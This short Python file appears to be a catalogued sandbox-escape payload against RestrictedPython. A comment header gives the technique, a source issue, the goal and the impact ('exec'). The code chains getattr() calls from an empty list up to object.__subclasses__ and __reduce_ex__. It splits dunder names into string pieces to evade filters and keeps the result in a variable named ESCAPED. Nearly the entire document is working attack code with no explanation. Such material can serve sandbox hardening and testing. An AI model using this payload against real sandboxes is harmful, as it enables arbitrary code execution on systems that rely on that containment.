# technique: getattr() in the hands of the guest walks from a list to every class
# source: https://github.com/zopefoundation/RestrictedPython/issues/142
# goal: the list of all classes
# impact: exec
for name in ('__subclasses__', '__reduce_ex__', '__init__'):
    try:
        found = getattr(getattr(getattr([], '__cl' + 'ass__'), '__ba' + 'se__'), name)
        if name == '__subclasses__':
            ESCAPED = found()
        elif name == '__reduce_ex__':
            ESCAPED = found([], 4)
    except (AttributeError, TypeError):
        pass
